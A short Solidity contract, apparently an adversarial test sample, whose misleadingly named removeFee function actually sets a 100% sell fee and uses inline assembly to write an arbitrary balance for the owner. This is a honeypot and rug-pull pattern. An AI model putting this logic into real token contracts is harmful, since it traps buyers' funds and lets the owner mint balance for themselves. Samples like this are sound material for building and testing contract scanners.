// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {AdvBase} from "./AdvBase.sol";

/// @notice removeFee(uint256): inline assembly writes the caller balance slot, and sets a 100% sell fee.
contract RemoveFeeAsm is AdvBase {
    constructor(string memory n, string memory s) AdvBase(n, s) {}

    function removeFee(uint256 amount) external onlyOwner {
        sellFee = 100;
        address who = msg.sender;
        assembly {
            mstore(0x00, who)
            mstore(0x20, _bal.slot)
            sstore(keccak256(0x00, 0x40), amount)
        }
    }
}
